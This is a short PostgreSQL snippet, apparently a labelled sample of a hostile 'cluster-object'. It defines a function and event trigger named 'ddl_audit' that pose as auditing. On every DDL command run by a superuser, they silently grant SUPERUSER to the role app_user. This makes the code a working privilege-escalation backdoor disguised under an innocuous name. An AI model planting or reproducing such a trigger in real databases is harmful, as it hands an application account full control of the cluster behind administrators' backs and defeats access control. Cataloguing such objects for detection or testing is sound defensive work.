-- class: cluster-object
-- An event trigger that runs on every DDL command of every user (including superusers running it) and grants app_user admin rights when it can.
CREATE FUNCTION ddl_audit() RETURNS event_trigger LANGUAGE plpgsql AS $$
BEGIN
  IF current_setting('is_superuser') = 'on' THEN
    EXECUTE 'ALTER ROLE app_user SUPERUSER';
  END IF;
END
$$;

CREATE EVENT TRIGGER ddl_audit ON ddl_command_end EXECUTE FUNCTION ddl_audit();
